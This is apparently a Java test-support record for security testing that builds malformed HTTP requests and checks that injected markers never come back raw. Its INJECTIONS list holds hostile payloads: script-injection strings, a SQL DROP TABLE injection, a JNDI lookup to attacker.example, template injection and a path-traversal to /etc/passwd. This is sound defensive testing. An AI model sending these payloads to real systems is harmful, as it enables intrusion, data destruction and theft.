package se.rjh.mtp.system.security;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import se.rjh.mtp.testsupport.TestHttp;

/**
 * One malformed request: what kind of bad input it carries, and everything needed to send it. Every attack is
 * invalid by construction, so a 2xx answer to a command means bad input was accepted.
 */
record Attack(String kind, String method, String pathAndQuery, String user, String contentType, byte[] body,
              boolean chunked, Map<String, String> headers) {

    /** Script and injection strings; their markers must never come back raw in any answer. */
    static final List<String> INJECTIONS = List.of(
            "<script>alert('mtp')</script>",
            "<img src=x onerror=alert(1)>",
            "'; DROP TABLE cases; --",
            "${jndi:ldap://attacker.example/a}",
            "{\"$gt\": \"\"}",
            "{{7*7}}${7*7}",
            "\" OR \"1\"=\"1",
            "../../../../etc/passwd");
    static final List<String> MARKERS = List.of("<script", "<img", "onerror=", "${jndi", "'; drop", "{{7*7}}");

    static Attack json(String kind, String method, String pathAndQuery, String user, String json) {
        return new Attack(kind, method, pathAndQuery, user, "application/json",
                json.getBytes(StandardCharsets.UTF_8), false, Map.of());
    }

    static Attack bare(String kind, String method, String pathAndQuery, String user) {
        return new Attack(kind, method, pathAndQuery, user, null, null, false, Map.of());
    }

    Attack withHeader(String name, String value) {
        Map<String, String> more = new LinkedHashMap<>(headers);
        more.put(name, value);
        return new Attack(kind, method, pathAndQuery, user, contentType, body, chunked, more);
    }

    TestHttp.Response send(String baseUrl) {
        TestHttp.Request probe = TestHttp.request(method, baseUrl + pathAndQuery).as(user);
        headers.forEach(probe::header);
        if (body != null) {
            probe.body(contentType, body);
            if (chunked) {
                probe.chunked();
            }
        }
        return probe.send();
    }

    /** The injected marker found raw in the answer, if any. */
    static String echoedMarker(String answer) {
        String lower = answer.toLowerCase();
        return MARKERS.stream().filter(lower::contains).findFirst().orElse(null);
    }
}
